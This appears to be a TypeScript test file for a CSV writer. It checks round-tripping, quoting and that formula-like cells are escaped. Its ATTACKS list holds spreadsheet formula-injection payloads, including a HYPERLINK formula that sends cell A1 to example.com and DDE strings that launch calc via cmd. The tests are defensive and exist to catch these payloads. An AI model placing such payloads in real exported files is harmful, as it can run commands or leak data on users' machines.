// Promises of CSV files: they read back as what was written, and no cell of anybody's text runs in a spreadsheet.
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { BYTE_ORDER_MARK, writeCsv, type CsvCell } from '#core/csv';

const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });
const cellOf = (cell: CsvCell): string => read(writeCsv([[cell, 'end']]))[0]?.[0] ?? '';
/** What a person reads in the cell: an apostrophe of ours is not shown. */
const shown = (cell: string): string => cell.replace(/^'(?='*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20])/, '');

const ATTACKS = [
  '=HYPERLINK("http://example.com?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

describe('CSV', () => {
  test.each(ATTACKS)('%j is text for a spreadsheet', (attack) => {
    expect(cellOf(attack)).toBe(`'${attack}`);
  });
  test('A phone number with a plus stays a phone number; our own negative number stays a number', () => {
    expect(cellOf('+1-617-555-0148')).toBe("'+1-617-555-0148");
    expect(cellOf('(617) 555-0148')).toBe('(617) 555-0148');
    expect(cellOf(-5)).toBe('-5');
    expect(cellOf(null)).toBe('');
  });
  test('Quotes, commas, line ends and spaces at the edges survive; lines end as RFC 4180 says; Excel is told that it is UTF-8', () => {
    const text = writeCsv([
      ['Said', 'Who'],
      ['"Gate, 4411"\nback stairs', ' José '],
    ]);
    expect(text).toBe(`${BYTE_ORDER_MARK}Said,Who\r\n"""Gate, 4411""\nback stairs"," José "\r\n`);
  });
  test('Whatever is written is read back, cell by cell, and none begins as a formula', () => {
    const nasty = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n",; \'a1é＝😀') });
    const row = fc.tuple(fc.oneof(nasty, fc.string()), fc.oneof(nasty, fc.string({ unit: 'binary' })), fc.constant('end'));
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 8 }), (rows) => {
        const cells = read(writeCsv(rows));
        expect(cells.map((each) => each.map(shown))).toEqual(rows);
        for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
      }),
      { numRuns: 500 },
    );
  });
});
